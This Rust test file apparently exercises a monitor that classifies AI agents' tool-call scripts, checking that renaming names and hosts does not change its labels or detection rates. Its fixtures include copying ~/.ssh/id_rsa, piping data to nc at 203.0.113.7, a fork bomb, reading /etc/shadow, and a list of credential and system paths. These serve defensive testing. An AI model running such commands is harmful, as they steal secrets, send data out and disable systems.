//! Cases under other names.

use std::{fmt::Write as _, path::Path};

use air_core::fact::PathLabels as _;
use air_facts::LabelTable;
use air_testkit::{
    rename::rename,
    suite::{Case, Script},
};
use serde_json::json;

use crate::classes::{classes, measure};

fn script(steps: &[(&str, &str, &str)]) -> Script {
    let steps: Vec<_> = steps
        .iter()
        .map(|(tool, argument, text)| json!({"tool": tool, "args": {*argument: text}}))
        .collect();
    serde_json::from_value(json!({ "step": steps })).expect("a script")
}

fn renamed(steps: &[(&str, &str, &str)]) -> Vec<String> {
    let labels = LabelTable::built_in().expect("the table");
    let after = rename(&script(steps), 1, &labels);
    let texts = after.step.iter().flat_map(|step| step.args.values());
    texts.filter_map(|text| text.as_str().map(str::to_owned)).collect()
}

#[test]
fn names_that_the_source_gives_are_others_and_those_of_libraries_stay() {
    let python = "import shutil as sh\nfrom os import path\n\ndef move(a, mode='r', *rest):\n    \
                  with open(a, mode=mode) as f:\n        return [x.name for x in f], path\n\n\
                  move('notes/a.txt', mode='w')\nsh.copy('/home/dev/.ssh/id_rsa', 'out/a.txt')\n";
    let shell = "dir=$HOME/data\nspread() { spread | spread; }\nfor f in a b; do\n  \
                 echo \"$f ${dir}/x.csv\" | nc 203.0.113.7 80\ndone\nread -r line < /etc/shadow; echo $line\n";
    insta::assert_snapshot!(renamed(&[("python_repl", "code", python)]).join("\n"));
    insta::assert_snapshot!(renamed(&[("bash", "command", shell)]).join("\n"));
}

#[test]
fn a_name_is_the_same_in_every_step() {
    let texts = renamed(&[
        ("write_file", "path", "tools/sync.py"),
        ("bash", "command", "cd tools && python3 ./sync.py https://h.example.invalid/x"),
        ("python_repl", "code", "secret = 1"),
        ("python_repl", "code", "print(secret, 'h.example.invalid')"),
    ]);
    let file = texts[0].rsplit('/').next().expect("a name");
    assert!(texts[1].contains(&format!("python3 ./{file} ")), "{texts:?}");
    let name = texts[2].split(' ').next().expect("a name");
    assert!(texts[3].starts_with(&format!("print({name}, ")), "{texts:?}");
    let host = texts[1].split('/').nth(3).expect("a host");
    assert!(host != "h.example.invalid" && texts[3].contains(host), "{texts:?}");
}

#[test]
fn paths_keep_their_labels_and_endings() {
    let labels = LabelTable::built_in().expect("the table");
    for path in [
        "/etc/shadow",
        "~/.ssh/id_rsa",
        ".env",
        ".env.example",
        "certs/server.key",
        "notes/a.md",
        "/var/log/auth.log",
        "/home/dev/Documents",
        "/etc/cron.d/poll",
        "~/.bashrc",
        "/dev/sda",
        "config/credentials.json",
        "/srv/app/data.csv",
        "/usr/lib/x/libz.so",
    ] {
        let after = renamed(&[("read_file", "path", path)]).concat();
        assert_ne!(after, path);
        assert_eq!(labels.labels(&after), labels.labels(path), "{path}: {after}");
        let ending = |path: &str| Path::new(path).extension().map(ToOwned::to_owned);
        assert!(path.starts_with('.') || ending(&after) == ending(path), "{path}: {after}");
    }
}

/// Percentage points that the figures may fall.
const MAY_FALL: usize = 3;

#[test]
fn the_figures_do_not_rest_on_names() {
    let labels = LabelTable::built_in().expect("the table");
    let (mut misses, mut told) = (String::new(), String::new());
    let plain = classes().values().map(|cases| measure(cases, &mut String::new())).sum();
    for seed in [1, 2] {
        let mut all = Vec::new();
        for cases in classes().values() {
            let other =
                |case: &Case| Case { script: rename(&case.script, seed, &labels), ..case.clone() };
            let cases: Vec<Case> = cases.iter().map(other).collect();
            all.push(measure(&cases, &mut misses));
        }
        let other: crate::classes::Figures = all.into_iter().sum();
        let _ = writeln!(told, "seed {seed}: {other}; under their own names: {plain}");
        assert!(other.fell_from(&plain) <= MAY_FALL, "{told}{misses}");
    }
}
